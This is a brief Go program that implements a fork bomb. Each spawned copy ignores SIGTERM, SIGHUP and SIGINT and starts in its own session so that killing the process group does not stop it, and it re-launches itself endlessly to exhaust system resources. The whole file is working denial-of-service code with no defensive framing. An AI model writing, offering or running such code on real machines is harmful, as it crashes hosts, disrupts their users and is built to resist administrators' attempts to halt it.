// A fork bomb that a kill by process group does not reach: every process begins
// a session of its own, and a polite request to end is ignored.
package main

import (
	"fmt"
	"os"
	"os/exec"
	"os/signal"
	"syscall"
)

func main() {
	signal.Ignore(syscall.SIGTERM, syscall.SIGHUP, syscall.SIGINT)
	self, err := os.Executable()
	if err != nil {
		fmt.Println(err)
		return
	}
	for {
		for range 2 {
			c := exec.Command(self)
			c.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
			_ = c.Start()
		}
	}
}
